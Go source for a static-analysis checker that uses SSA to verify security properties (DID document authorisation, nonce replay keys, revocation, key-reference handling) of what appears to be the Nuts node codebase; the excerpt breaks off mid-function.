	return VPat{Desc: inner.Desc + " (the value the variable holds at this point)", M: func(v ssa.Value) bool {
		v = StripConv(v)
		if inner.M(v) {
			if u, isLoad := v.(*ssa.UnOp); !isLoad || u.Op != token.MUL {
				return true
			}
		}
		u, isLoad := v.(*ssa.UnOp)
		if !isLoad || u.Op != token.MUL {
			return false
		}
		sts, zero, ok := reachingStores(u)
		if !ok || zero || len(sts) == 0 {
			return false
		}
		for _, st := range sts {
			if !inner.M(st.Val) && !inner.M(StripConv(st.Val)) {
				return false
			}
		}
		return true
	}}
}

// AndV matches both patterns.
func AndV(a, b VPat) VPat {
	return VPat{Desc: a.Desc + " and " + b.Desc, M: func(v ssa.Value) bool { return a.M(v) && b.M(v) }}
}

// passesBefore: every path from the entry of fn to an instruction matching effect executes an instruction matching must
// first. Returns the number of effect and must sites, and the position of an effect that can be reached without.
func passesBefore(fn *ssa.Function, effect, must func(ssa.Instruction) bool) (nEff, nMust int, badPos token.Pos) {
	blocked := map[*ssa.BasicBlock]bool{}
	type site struct {
		b *ssa.BasicBlock
		i int
		p token.Pos
	}
	var effs []site
	firstMust := map[*ssa.BasicBlock]int{}
	for _, b := range fn.Blocks {
		for i, in := range b.Instrs {
			if must(in) {
				nMust++
				if _, has := firstMust[b]; !has {
					firstMust[b] = i
				}
				blocked[b] = true
			}
			if effect(in) {
				nEff++
				effs = append(effs, site{b, i, in.Pos()})
			}
		}
	}
	if len(fn.Blocks) == 0 {
		return
	}
	entry := fn.Blocks[0]
	var reach map[*ssa.BasicBlock]bool
	if blocked[entry] {
		reach = map[*ssa.BasicBlock]bool{}
	} else {
		reach = Reach(entry, nil, blocked)
	}
	for _, e := range effs {
		if fm, has := firstMust[e.b]; has {
			if fm < e.i {
				continue // passes the must site in its own block first
			}
			// effect precedes the must site in this block: is the block itself reachable without?
			if e.b == entry {
				return nEff, nMust, e.p
			}
			for _, pr := range e.b.Preds {
				if reach[pr] && !blocked[pr] {
					return nEff, nMust, e.p
				}
			}
			continue
		}
		if reach[e.b] {
			return nEff, nMust, e.p
		}
	}
	return nEff, nMust, token.NoPos
}

func isStoreToField(in ssa.Instruction, typ, field string) (*ssa.Store, bool) {
	st, ok := in.(*ssa.Store)
	if !ok {
		return nil, false
	}
	fa, ok := st.Addr.(*ssa.FieldAddr)
	if !ok || fieldName(fa.X.Type(), fa.Field) != field {
		return nil, false
	}
	if typ != "" && !strings.HasSuffix(strings.TrimPrefix(derefName(fa.X.Type().String()), "*"), "."+typ) {
		return nil, false
	}
	return st, true
}

func derefName(s string) string { return strings.TrimLeft(s, "*") }

// ---------- C10 ----------

func c10Seed6(r *Report) {
	p := r.P
	const ds = "vdr/didnuts/didstore"
	// C10-j: whether a VERSION is a deactivation is a fact about the transaction's own document (what its signer wrote), not
	// about the merged document stored for a conflicted version: the argument of isDeactivated in applyEvent is the document
	// read from the event, as the variable holds it at that point (applyDocument re-assigns the same variable to the merge)
	ae := p.Func(ds, "", "applyEvent")
	r.ArgIs("C10.deactivated.flag-of-the-transactions-own-document", ae, Fn(ds, "", "isDeactivated"), 0,
		ReachV(CallV(Fn(ds, "", "readDocumentFromEvent"), 0)), 1)
}

// ---------- C16 ----------

func c16Seed6(r *Report) {
	p := r.P
	// C16-j: the client's timestamp is whatever the last processed answer said — also when that is LOWER than what is stored
	// (add() replaces the subject's entry by the one in the answer, so a late answer must drag the timestamp back for the
	// next poll to fetch the newer entry again): setTimestamp stores its parameter on every path that saves the row
	st := p.Func("discovery", "sqlStore", "setTimestamp")
	key := "C16.client.timestamp-follows-the-answer"
	rule := "ORDER+ARG: every path of setTimestamp to the Save of the service row first stores the timestamp parameter in LastLamportTimestamp (unconditionally: not only when it is higher)"
	if st == nil {
		r.Lost(key, rule, "setTimestamp not found")
		return
	}
	isSave := func(in ssa.Instruction) bool {
		c, ok := in.(*ssa.Call)
		if !ok {
			return false
		}
		f := c.Common().StaticCallee()
		return f != nil && f.Pkg != nil && strings.HasSuffix(f.Pkg.Pkg.Path(), "gorm.io/gorm") && (f.Name() == "Save" || f.Name() == "Updates" || f.Name() == "Update" || f.Name() == "Create")
	}
	wrong := ""
	isStore := func(in ssa.Instruction) bool {
		s, ok := isStoreToField(in, "", "LastLamportTimestamp")
		if !ok {
			return false
		}
		if !ParamV("timestamp").M(s.Val) {
			wrong = p.Pos(s.Pos())
			return false
		}
		return true
	}
	nE, nM, bad := passesBefore(st, isSave, isStore)
	r.Sites += nE + nM
	switch {
	case nE == 0:
		r.Lost(key, rule, "no gorm write in setTimestamp")
	case wrong != "":
		r.Bad(key, rule, wrong, "LastLamportTimestamp is assigned something other than the timestamp parameter")
	case bad != token.NoPos:
		r.Bad(key, rule, p.Pos(bad), "the row is saved on a path that did not assign the timestamp parameter (the stored timestamp survives a lower one)")
	default:
		r.OK(key, rule, p.Pos(st.Pos()), fmt.Sprintf("%d write(s), %d assignment(s)", nE, nM), true)
	}
}

// ---------- C02 / C05 ----------

func c02Seed6(r *Report) {
	p := r.P
	const iam = "auth/api/iam"
	// C02-i: "a nonce not seen before" is a statement about the nonce alone: the s2s nonce is looked up and registered under
	// exactly what extractNonce returned — a key that mixes in anything the requester controls (client_id, …) makes the same
	// presentation fresh again
	vn := p.Func(iam, "Wrapper", "validateS2SPresentationNonce")
	nonce := ReachV(CallV(Fn(iam, "", "extractNonce"), 0))
	r.ArgIs("C02.s2s.nonce-keyed-by-the-nonce-alone.get", vn, StoreOp("s2sNonceStore", "Get"), 0, nonce, 1)
	r.ArgIs("C02.s2s.nonce-keyed-by-the-nonce-alone.put", vn, StoreOp("s2sNonceStore", "Put"), 0, nonce, 1)
}

// ---------- C04 ----------

// trueSources: the conditions under which fn returns true: the disjunction leaves of every returned non-constant boolean
// and, for a `return true`, of the condition whose true edge leads to it. Calls of closures / same-package helpers that
// return one bool are expanded (depth 2) with their parameters bound to the call's arguments.
type boolLeaf struct {
	v    ssa.Value
	bind map[*ssa.Parameter]ssa.Value
}

func trueSources(fn *ssa.Function, bind map[*ssa.Parameter]ssa.Value, depth int) []boolLeaf {
	var out []boolLeaf
	var addLeaves func(v ssa.Value)
	addLeaves = func(v ssa.Value) {
		for _, l := range OrLeaves(v) {
			if c, ok := l.(*ssa.Call); ok && depth < 2 {
				if h := c.Common().StaticCallee(); h != nil && len(h.Blocks) > 0 && h.Signature.Results().Len() == 1 && (h.Parent() != nil || h.Pkg == fn.Pkg) {
					nb := map[*ssa.Parameter]ssa.Value{}
					args := c.Common().Args
					for i, prm := range h.Params {
						if i < len(args) {
							a := args[i]
							if ap, isP := a.(*ssa.Parameter); isP && bind[ap] != nil {
								a = bind[ap]
							}
							nb[prm] = a
						}
					}
					out = append(out, trueSources(h, nb, depth+1)...)
					continue
				}
			}
			out = append(out, boolLeaf{l, bind})
		}
	}
	for _, b := range fn.Blocks {
		ret, ok := b.Instrs[len(b.Instrs)-1].(*ssa.Return)
		if !ok || len(ret.Results) != 1 {
			continue
		}
		v := ret.Results[0]
		if cb, isC := ConstBool(v); isC {
			if !cb {
				continue
			}
			// return true: the condition(s) leading here
			for _, pr := range b.Preds {
				if iff, isIf := pr.Instrs[len(pr.Instrs)-1].(*ssa.If); isIf && pr.Succs[0] == b && pr.Succs[1] != b {
					addLeaves(iff.Cond)
				}
			}
			continue
		}
		addLeaves(v)
	}
	return out
}

func c04Seed6(r *Report) {
	p := r.P
	// C04-i: the wildcard address overlaps with EVERY address (Go's [::] listener is dual-stack; 0.0.0.0 and [::] on one
	// port collide): "same socket" follows from IsUnspecified of either address alone — as a bare disjunct, never qualified
	// by a further condition (address family, …)
	sla := p.Func("http", "", "sameListenAddress")
	key := "C04.binds.overlap.wildcard-alone-suffices"
	rule := "ARG: sameListenAddress returns true whenever IP.IsUnspecified holds for the first address, and whenever it holds for the second: each is a bare disjunct of the result (not one side of a conjunction)"
	if sla == nil {
		r.Lost(key, rule, "sameListenAddress not found")
		return
	}
	recvs := map[string]bool{}
	n := 0
	for _, l := range trueSources(sla, map[*ssa.Parameter]ssa.Value{}, 0) {
		c, ok := l.v.(*ssa.Call)
		if !ok {
			continue
		}
		f := c.Common().StaticCallee()
		if f == nil || f.Name() != "IsUnspecified" || f.Pkg == nil || f.Pkg.Pkg.Path() != "net" {
			continue
		}
		n++
		recv := c.Common().Args[0]
		if prm, isP := recv.(*ssa.Parameter); isP && l.bind[prm] != nil {
			recv = l.bind[prm]
		}
		recvs[AccessPath(recv, 0)] = true
	}
	r.Sites += n
	if len(recvs) < 2 {
		r.Bad(key, rule, p.Pos(sla.Pos()), fmt.Sprintf("bare IsUnspecified disjuncts found for %d address(es) (%v), expected both", len(recvs), keysOf(recvs)))
		return
	}
	r.OK(key, rule, p.Pos(sla.Pos()), fmt.Sprintf("%v", keysOf(recvs)), true)
}

func keysOf(m map[string]bool) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

// ---------- C12 ----------

func c12Seed6(r *Report) {
	p := r.P
	// C12-j: count / min / max speak about the members that MATCHED; a member that did not match is skipped, not counted:
	// apply never narrows the member list positionally (list[:max] counts the unmatched members in front)
	ap := p.Func("vcr/pe", "", "apply")
	key := "C12.rules.bounds-count-matched-members"
	rule := "ARG: apply never slices its member list (count/min/max are applied by counting non-empty members while ranging over the whole list)"
	if ap == nil {
		r.Lost(key, rule, "apply not found")
		return
	}
	n := 0
	for _, b := range ap.Blocks {
		for _, in := range b.Instrs {
			switch x := in.(type) {
			case *ssa.Range, *ssa.Next:
				n++
			case *ssa.Call:
				if bi, ok := x.Call.Value.(*ssa.Builtin); ok && bi.Name() == "len" {
					n++
				}
			case *ssa.Slice:
				if ParamV("list").M(x.X) && (x.Low != nil || x.High != nil) {
					r.Bad(key, rule, p.Pos(x.Pos()), "the member list is cut positionally: unmatched members inside the cut count against the bound")
					return
				}
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost(key, rule, "apply does not range over anything")
		return
	}
	r.OK(key, rule, p.Pos(ap.Pos()), "", true)
}

// ---------- C13 ----------

func c13Seed6(r *Report) {
	p := r.P
	// C13-j: "is this change committed" for did:nuts means: it is the CURRENT version on the network side. A change whose
	// contents equal an older published version (a service added and removed again) is not committed by that older version:
	// the store is asked for the head (no hash / time / source-transaction selector in the resolve metadata)
	ic := p.Func("vdr/didnuts", "Manager", "IsCommitted")
	key := "C13.sweep.nuts-committed-means-head-of-store"
	rule := "ARG: Manager.IsCommitted resolves the latest version: the ResolveMetadata it passes selects nothing (only AllowDeactivated is set)"
	if ic == nil {
		r.Lost(key, rule, "IsCommitted not found")
		return
	}
	n := 0
	for _, f := range WithAnons(ic) {
		for _, b := range f.Blocks {
			for _, in := range b.Instrs {
				st, ok := in.(*ssa.Store)
				if !ok {
					continue
				}
				fa, ok := st.Addr.(*ssa.FieldAddr)
				if !ok || !strings.HasSuffix(derefName(fa.X.Type().String()), "resolver.ResolveMetadata") {
					continue
				}
				n++
				if fn := fieldName(fa.X.Type(), fa.Field); fn != "AllowDeactivated" {
					r.Bad(key, rule, p.Pos(st.Pos()), "the resolve metadata selects a version by "+fn+": an older version with the same contents answers for the unpublished one")
					return
				}
			}
		}
	}
	r.Sites += n + len(Calls(ic, p.FnOrImpl("vdr/didnuts/didstore", "Store", "Resolve")))
	if len(Calls(ic, p.FnOrImpl("vdr/didnuts/didstore", "Store", "Resolve"))) == 0 {
		r.Lost(key, rule, "no Store.Resolve call in IsCommitted")
		return
	}
	r.OK(key, rule, p.Pos(ic.Pos()), "", true)
}

// ---------- C09 ----------

func c09Seed6(r *Report) {
	p := r.P
	const dn = "vdr/didnuts"
	// C09-j: the DID is compared with the thumbprint AS SPELLED (the store, the resolvers and the validators key on the
	// spelled DID; a decoded/normalised form makes a second DID for the same key resolvable)
	cr := p.Func(dn, "ambassador", "handleCreateDIDDocument")
	eff := CallEffect(p.FnOrImpl(dn+"/didstore", "Store", "Add"))
	idField := AndV(FieldV("DID", "ID"), PathV("proposedDIDDocument"))
	r.Gate(Gate{ID: "C09.create.did-as-spelled-is-thumbprint", Fn: cr, Effect: eff,
		Check: CmpCheck("proposedDIDDocument.ID.ID (the field itself) == signingKeyThumbprint", token.EQL, idField, CallV(Fn("crypto", "", "Thumbprint"), 0), true)})
	// C09-i (reported by C10's sticky rule): the same obligation under this property — keys of a deactivated controller never
	// authorise again, which needs the deactivated flag of a merged version to be (new || current), not recomputed
	c10StickyAs(r, "C09.deactivated-controller.flag-is-sticky")
}

// ---------- C11 ----------

func c11Seed6(r *Report) {
	p := r.P
	const ver = "vcr/verifier"
	// C11-j (reported by C01's rules only): revocation is permanent and independent of the validation time: Verify succeeds
	// only behind IsRevoked(id) == false, and IsRevoked takes nothing but the credential id
	vf := p.Func(ver, "verifier", "Verify")
	idNil := CmpCheck("credential.ID == nil", token.EQL, FieldV("VerifiableCredential", "ID"), NilV(), true)
	r.Gate(Gate{ID: "C11.verify.revoked-whatever-the-validation-time", Fn: vf, Effect: SuccessReturn(), Check: CallCheck(Fn(ver, "verifier", "IsRevoked"), 0, IsFalse), Alt: []Check{idNil}})
}

// ---------- C08 ----------

func c08Seed6(r *Report) {
	p := r.P
	const tr = "network/dag/tree"
	// C08-i: "a corrupted page is restored to the recomputed value": what checkPage hands to Replace is the recomputed tree's
	// Root() itself — a tree.Data is a pointer behind an interface, so a value that was also the receiver of Add / Subtract /
	// Insert / Delete / UnmarshalBinary (e.g. re-used to form the difference) is no longer the recomputed value
	cp := p.Func("network/dag", "xorTreeRepair", "checkPage")
	key := "C08.repair.replaces-with-the-unmodified-recomputed-root"
	rule := "ARG: the Data given to Tree.Replace in checkPage is the result of Root() on the tree built in this run, and that same object is never the receiver of a mutating Data method"
	if cp == nil {
		r.Lost(key, rule, "checkPage not found")
		return
	}
	mutators := map[string]bool{"Add": true, "Subtract": true, "Insert": true, "Delete": true, "UnmarshalBinary": true}
	n := 0
	for _, f := range WithAnons(cp) {
		for _, ci := range Calls(f, Fn(tr, "Tree", "Replace")) {
			n++
			arg := StripConv(CallArg(ci.Common(), 1))
			// resolve a local variable to the single value it holds here
			if u, isLoad := arg.(*ssa.UnOp); isLoad && u.Op == token.MUL {
				if sts, zero, ok := reachingStores(u); ok && !zero && len(sts) == 1 {
					arg = StripConv(sts[0].Val)
				}
			}
			root, isCall := arg.(*ssa.Call)
			if !isCall || !Fn(tr, "Tree", "Root").M(root.Common()) {
				r.Bad(key, rule, p.Pos(ci.Pos()), "the replacement is "+AccessPath(arg, 0)+", not a Root() of the recomputed tree")
				return
			}
			if !CallV(Fn(tr, "", "New"), 0).M(CallArg(root.Common(), -1)) && !ReachV(CallV(Fn(tr, "", "New"), 0)).M(CallArg(root.Common(), -1)) && !freeVarBoundToNewTree(CallArg(root.Common(), -1), tr) {
				r.Bad(key, rule, p.Pos(root.Pos()), "Root() is taken from "+AccessPath(CallArg(root.Common(), -1), 0)+", not from the tree built by tree.New in this run")
				return
			}
			// every other use of the object: not as receiver of a mutator (directly, or through a variable it was copied to)
			var uses []ssa.Instruction
			uses = append(uses, *root.Referrers()...)
			for _, ref := range *root.Referrers() {
				if st, isSt := ref.(*ssa.Store); isSt && st.Val == ssa.Value(root) {
					if cell, isAlloc := st.Addr.(*ssa.Alloc); isAlloc {
						for _, cref := range *cell.Referrers() {
							if ld, isLd := cref.(*ssa.UnOp); isLd {
								uses = append(uses, *ld.Referrers()...)
							}
						}
					}
				}
				if mi, isMI := ref.(*ssa.MakeInterface); isMI {
					uses = append(uses, *mi.Referrers()...)
				}
			}
			for _, use := range uses {
				c, isC := use.(ssa.CallInstruction)
				if !isC || !c.Common().IsInvoke() || c.Common().Method == nil {
					continue
				}
				if mutators[c.Common().Method.Name()] {
					recv := StripConv(c.Common().Value)
					if recv == ssa.Value(root) || isLoadOfCellHolding(recv, root) {
						r.Bad(key, rule, p.Pos(c.Pos()), "the recomputed root is modified by "+c.Common().Method.Name()+" before/after it is handed to Replace (tree.Data is a reference: the page gets the modified value)")
						return
					}
				}
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Lost(key, rule, "no Tree.Replace call in checkPage")
		return
	}
	r.OK(key, rule, p.Pos(cp.Pos()), fmt.Sprintf("%d Replace call(s)", n), true)
}

func isLoadOfCellHolding(v ssa.Value, held ssa.Value) bool {
	u, ok := v.(*ssa.UnOp)
	if !ok || u.Op != token.MUL {
		return false
	}
	cell, ok := u.X.(*ssa.Alloc)
	if !ok {
		return false
	}
	for _, ref := range *cell.Referrers() {
		if st, isSt := ref.(*ssa.Store); isSt && st.Addr == ssa.Value(cell) && StripConv(st.Val) == held {
			return true
		}
	}
	return false
}

// freeVarBoundToNewTree: v is (a load of) a variable of the enclosing function that was assigned tree.New(...).
func freeVarBoundToNewTree(v ssa.Value, tr string) bool {
	v = StripConv(v)
	if u, ok := v.(*ssa.UnOp); ok && u.Op == token.MUL {
		v = u.X
	}
	fv, ok := v.(*ssa.FreeVar)
	if !ok {
		return false
	}
	b := FreeVarBinding(fv)
	if b == nil {
		return false
	}
	if CallV(Fn(tr, "", "New"), 0).M(b) {
		return true
	}
	if cell, isAlloc := b.(*ssa.Alloc); isAlloc {
		n, okAll := 0, true
		for _, ref := range *cell.Referrers() {
			if st, isSt := ref.(*ssa.Store); isSt && st.Addr == ssa.Value(cell) {
				n++
				if !CallV(Fn(tr, "", "New"), 0).M(st.Val) {
					okAll = false
				}
			}
		}
		return n > 0 && okAll
	}
	return false
}

// ---------- C07 ----------

func c07Seed6(r *Report) {
	p := r.P
	const dag, v2 = "network/dag", "network/transport/v2"
	// C07-i (reported by C08's clock rules only): the highest clock a node advertises never goes down
	clockMonotoneAs(r, "C07.progress.clock")
	// C07-j (reported by C15's rule only): a node serves every transaction it has, also a private one whose payload it never
	// had: the answer depends on a stored payload only for public transactions
	cl := p.Func(v2, "protocol", "collectTransactionList")
	r.Gate(Gate{ID: "C07.progress.private-transaction-served-without-its-payload", Fn: cl, Effect: CallEffect(Fn(dag, "State", "ReadPayload")),
		Check: CmpCheck("len(transaction.PAL()) == 0", token.EQL, LenV(CallV(Fn(dag, "Transaction", "PAL"), -1)), IntV(0), true)})
}

// ---------- C03 ----------

func c03Seed6(r *Report) {
	p := r.P
	// C03-i: which private key a key id denotes is read from the key_reference table (inside the caller's SQL transaction, if
	// any) every time: a process-local copy survives a rollback and keeps signing with an abandoned key
	fk := p.Func("crypto", "Crypto", "findKeyReferenceByKid")
	r.EveryPath("C03.keyref.read-from-the-table-on-every-use", fk, "the key_reference query (continueTransaction)", func(in ssa.Instruction) bool {
		c, ok := in.(ssa.CallInstruction)
		return ok && Fn("crypto", "Crypto", "continueTransaction").M(c.Common())
	})
	key := "C03.keyref.no-process-local-copy"
	rule := "OWN: the Crypto engine holds no map / sync.Map field (kid → key reference or key): the table and the backend are the only state"
	cr := p.Pkg("crypto")
	if cr == nil {
		r.Lost(key, rule, "package crypto not found")
		return
	}
	obj := cr.Types.Scope().Lookup("Crypto")
	if obj == nil {
		r.Lost(key, rule, "type Crypto not found")
		return
	}
	st, ok := obj.Type().Underlying().(*types.Struct)
	if !ok {
		r.Lost(key, rule, "Crypto is not a struct")
		return
	}
	r.Sites += st.NumFields()
	for i := 0; i < st.NumFields(); i++ {
		f := st.Field(i)
		ts := f.Type().String()
		if _, isMap := f.Type().Underlying().(*types.Map); isMap || strings.Contains(ts, "sync.Map") || strings.Contains(strings.ToLower(ts), "cache") {
			r.Bad(key, rule, p.Pos(f.Pos()), "field "+f.Name()+" "+ts)
			return
		}
	}
	r.OK(key, rule, p.Pos(obj.Pos()), fmt.Sprintf("%d fields", st.NumFields()), false)
}
