package props

import (
	"fmt"
	"go/token"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"

	. "verifcheck/an"
)

func init() { Registry["C09"] = c09 }

func c09(r *Report) {
	defer c09Seed5(r)
	defer c09Seed6(r)
	p := r.P
	const dn = "vdr/didnuts"
	r.Explanation = "Static decision that a did:nuts document version from the network becomes resolvable only through the authorisation and well-formedness checks: (1) the did:nuts store is written only by the two ambassador handlers and by the manager's own signed updates; (2) creation: Add only via an embedded signing key, its thumbprint and DID == thumbprint; (3) update: Add only via controller resolution, resolution of the signing key as of the referenced transactions, and a thumbprint match in a key list that is built only from the capabilityInvocation relationships of the resolved controllers; the controller list itself is built only from ResolveControllers results; (4) both handlers are reached only through transaction integrity, JSON decoding and the network document validator, whose validator table contains the W3C, verification-method and service validators; the inner validators gate their success on fragment, uniqueness, DID prefix, thumbprint (computed from key material) and one-service-per-type."
	r.NotDecided = []string{"that the resolved 'version it succeeds' is the right one for every history (C10)", "signature validity of the transaction itself (C06)", "verification methods embedded in relationships are not covered by the verification-method validator (observed, see DESIGN.md)"}

	add := p.FnOrImpl(dn+"/didstore", "Store", "Add")
	r.Own(OwnSpec{ID: "C09.own.store-add", Op: "call didstore.Store.Add", Sites: p.CallSites(add, true), Min: 3, Owners: map[string]string{
		"(*vdr/didnuts.ambassador).handleCreateDIDDocument": "network creation after thumbprint checks",
		"(*vdr/didnuts.ambassador).handleUpdateDIDDocument": "network update after controller-key checks",
		"(vdr/didnuts.Manager).Update":                      "own document, after this node signed and published the transaction with a key from its key store",
	}})
	eff := CallEffect(add)
	cr := p.Func(dn, "ambassador", "handleCreateDIDDocument")
	r.Gate(Gate{ID: "C09.create.embedded-key", Fn: cr, Effect: eff, Check: CmpCheck("transaction.SigningKey() == nil is false", token.EQL, CallV(Fn("network/dag", "Transaction", "SigningKey"), -1), NilV(), false)})
	r.Gate(Gate{ID: "C09.create.thumbprint", Fn: cr, Effect: eff, Check: ErrCheck(Fn("crypto", "", "Thumbprint"))})
	r.Gate(Gate{ID: "C09.create.did-is-thumbprint", Fn: cr, Effect: eff, Check: CmpCheck("proposedDIDDocument.ID.ID == signingKeyThumbprint", token.EQL, PathV("proposedDIDDocument", ".ID"), CallV(Fn("crypto", "", "Thumbprint"), 0), true)})
	c17ArgFrom(r, "C09.create.thumbprint-of-tx-key", cr, Fn("crypto", "", "Thumbprint"), 0, CallV(Fn("network/dag", "Transaction", "SigningKey"), -1), "the thumbprint is computed from the key embedded in the signing transaction")

	up := p.Func(dn, "ambassador", "handleUpdateDIDDocument")
	r.Gate(Gate{ID: "C09.update.controllers-resolved", Fn: up, Effect: eff, Check: ErrCheck(Fn(dn, "ambassador", "resolveControllers"))})
	r.Gate(Gate{ID: "C09.update.signing-key-resolved", Fn: up, Effect: eff, Check: ErrCheck(Fn("vdr/resolver", "NutsKeyResolver", "ResolvePublicKey"))})
	r.Gate(Gate{ID: "C09.update.key-search", Fn: up, Effect: eff, Check: ErrCheck(Fn(dn, "ambassador", "findKeyByThumbprint"))})
	r.Gate(Gate{ID: "C09.update.key-of-controller", Fn: up, Effect: eff, Check: CallCheck(Fn(dn, "ambassador", "findKeyByThumbprint"), 0, NonNil)})
	r.Gate(Gate{ID: "C09.update.current-version-resolved", Fn: up, Effect: eff, Check: ErrCheck(Fn(dn+"/didstore", "Store", "Resolve")),
		Alt: []Check{CmpCheck("currentDIDDocument == nil is false (found by a referenced transaction)", token.EQL, TypeNamedV("Document"), NilV(), false)}})
	c09KeyListFromControllers(r, up)
	c09ControllersFromResolver(r)
	r.ArgIs("C09.update.controllers-of-current-version", up, Fn(dn, "ambassador", "resolveControllers"), 0, OriginV(CallV(p.FnOrImpl("vdr/didnuts/didstore", "Store", "Resolve"), 0)), 1)
	c09SeenSetKey(r, p.Func(dn, "", "verifyDocumentEntryID"))
	c09KeyResolvedAsOfPrevs(r, up)
	// findKeyByThumbprint returns a key only on byte equality
	fk := p.Func(dn, "ambassador", "findKeyByThumbprint")
	c09FindResult(r, fk)

	cb := p.Func(dn, "ambassador", "callback")
	handlers := AnyEffect(CallEffect(Fn(dn, "ambassador", "handleCreateDIDDocument")), CallEffect(Fn(dn, "ambassador", "handleUpdateDIDDocument")))
	r.Gate(Gate{ID: "C09.callback.integrity", Fn: cb, Effect: handlers, Check: ErrCheck(Fn(dn, "", "checkTransactionIntegrity"))})
	r.Gate(Gate{ID: "C09.callback.decoded", Fn: cb, Effect: handlers, Check: ErrCheck(Fn("std:encoding/json", "", "Unmarshal"))})
	r.Gate(Gate{ID: "C09.callback.validated", Fn: cb, Effect: handlers, Check: ErrCheck(Fn("github.com/nuts-foundation/go-did/did", "Validator", "Validate"))})
	r.Own(OwnSpec{ID: "C09.own.handlers", Op: "call handleCreate/UpdateDIDDocument", Sites: append(p.CallSites(Fn(dn, "ambassador", "handleCreateDIDDocument"), true), p.CallSites(Fn(dn, "ambassador", "handleUpdateDIDDocument"), true)...), Min: 2,
		Owners: map[string]string{"(*vdr/didnuts.ambassador).callback": "after integrity, decoding and validation"}})
	c09ValidatorTable(r)
	c09ValidatedDocIsHandled(r, cb)

	// inner validators
	vm := p.Func(dn, "verificationMethodValidator", "Validate")
	// the owner every entry id is compared with is the id of the document under validation (not e.g. the entry's own controller)
	r.ArgIsEverywhere("C09.entry-id.owner-is-the-document", Fn(dn, "", "verifyDocumentEntryID"), 0, FieldV("Document", "ID"), 2)
	// both rules apply to the document's verification methods AND to the methods embedded in a verification relationship
	// (fix: embedded capabilityInvocation keys bypassed them) — hence two sites each; a relationship entry that merely
	// refers to a method of the document is skipped (it was validated as a method)
	isRef := []Check{CallCheck(Fn(dn, "", "isEmbeddedVerificationMethod"), -1, IsFalse)}
	entryID := ErrCheck(Fn(dn, "", "verifyDocumentEntryID"))
	entryID.MinSite = 2
	thumb := ErrCheck(Fn(dn, "verificationMethodValidator", "verifyThumbprint"))
	thumb.MinSite = 2
	r.Gate(Gate{ID: "C09.vm.entry-id", Fn: vm, Effect: SuccessReturn(), ForEach: true, Check: entryID, Skip: isRef})
	r.Gate(Gate{ID: "C09.vm.thumbprint", Fn: vm, Effect: SuccessReturn(), ForEach: true, Check: thumb, Skip: isRef})
	r.Gate(Gate{ID: "C09.vm.relationship-has-method", Fn: vm, Effect: SuccessReturn(), ForEach: true,
		Check: CmpCheck("entry.VerificationMethod == nil is false", token.EQL, FieldV("VerificationRelationship", "VerificationMethod"), NilV(), false)})
	vt := p.Func(dn, "verificationMethodValidator", "verifyThumbprint")
	r.Gate(Gate{ID: "C09.vm.kid-equals-fragment", Fn: vt, Effect: SuccessReturn(), Check: CmpCheck("keyAsJWK.KeyID() == method.ID.Fragment", token.EQL, CallV(Fn(jwkPkg, "Key", "KeyID"), -1), PathV("Fragment"), true)})
	c09ThumbprintFromKeyMaterial(r, vt)
	ve := p.Func(dn, "", "verifyDocumentEntryID")
	r.Gate(Gate{ID: "C09.entry.fragment", Fn: ve, Effect: SuccessReturn(), Check: CmpCheck("entryID.Fragment == \"\" is false", token.EQL, PathV("Fragment"), StrV(""), false)})
	r.Gate(Gate{ID: "C09.entry.unique", Fn: ve, Effect: SuccessReturn(), Check: Check{Desc: "knownIDs[id] is false", Pass: IsFalse, Values: func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if lk, ok := in.(*ssa.Lookup); ok && !lk.CommaOk {
					out = append(out, lk)
				}
			}
		}
		return out
	}}})
	r.Gate(Gate{ID: "C09.entry.did-prefix", Fn: ve, Effect: SuccessReturn(), Check: CmpCheck("owner.String() == entryID(without fragment).String()", token.EQL, PathV("String(", "owner"), PathV("String(", "entryID"), true)})
	sv := p.Func(dn, "basicServiceValidator", "Validate")
	r.Gate(Gate{ID: "C09.service.entry-id", Fn: sv, Effect: SuccessReturn(), ForEach: true, Check: ErrCheck(Fn(dn, "", "verifyDocumentEntryID"))})
	r.Gate(Gate{ID: "C09.service.one-per-type", Fn: sv, Effect: SuccessReturn(), ForEach: true, Check: Check{Desc: "knownServiceTypes[type] is false", Pass: IsFalse, Values: func(fn *ssa.Function) []ssa.Value {
		var out []ssa.Value
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				if lk, ok := in.(*ssa.Lookup); ok && !lk.CommaOk {
					out = append(out, lk)
				}
			}
		}
		return out
	}}})
}

// c09KeyListFromControllers: the slice searched for the signing key is appended to only with CapabilityInvocation entries of the resolved controllers.
func c09KeyListFromControllers(r *Report, up *ssa.Function) {
	rule := "ARG: the key list searched for the signing key is built only from capabilityInvocation relationships of the resolved controllers"
	key := "C09.update.keys-from-controller-capability-invocation"
	if up == nil {
		r.Lost(key, rule, "function not found")
		return
	}
	find := Calls(up, Fn("vdr/didnuts", "ambassador", "findKeyByThumbprint"))
	if len(find) != 1 {
		r.Lost(key, rule, "findKeyByThumbprint call not found")
		return
	}
	list := CallArg(find[0].Common(), 1)
	// all appends feeding this slice
	n := 0
	for _, b := range up.Blocks {
		for _, in := range b.Instrs {
			c, ok := in.(*ssa.Call)
			if !ok {
				continue
			}
			bi, ok := c.Call.Value.(*ssa.Builtin)
			if !ok || bi.Name() != "append" {
				continue
			}
			if !sameSliceVar(c, list) {
				continue
			}
			n++
			for _, el := range SliceLitElems(c.Call.Args[1]) {
				path := AccessPath(el, 0)
				ok := strings.Contains(path, "CapabilityInvocation") && (strings.Contains(path, "resolveControllers(") || baseFrom(el, "resolveControllers("))
				if !ok {
					r.Bad(key, rule, r.P.Pos(c.Pos()), "an element appended to the searched key list is "+path)
					return
				}
			}
		}
	}
	r.Sites += n
	if n == 0 {
		r.Bad(key, rule, r.P.Pos(up.Pos()), "no append into the searched key list recognised")
		return
	}
	r.OK(key, rule, r.P.Pos(find[0].Pos()), fmt.Sprintf("%d append(s), all from didControllers[i].CapabilityInvocation", n), true)
}

// sameSliceVar: the append result and v belong to the same slice variable (connected through phis / appends).
func sameSliceVar(ap *ssa.Call, v ssa.Value) bool {
	seen := map[ssa.Value]bool{}
	var walk func(x ssa.Value) bool
	walk = func(x ssa.Value) bool {
		if x == ssa.Value(ap) {
			return true
		}
		if seen[x] {
			return false
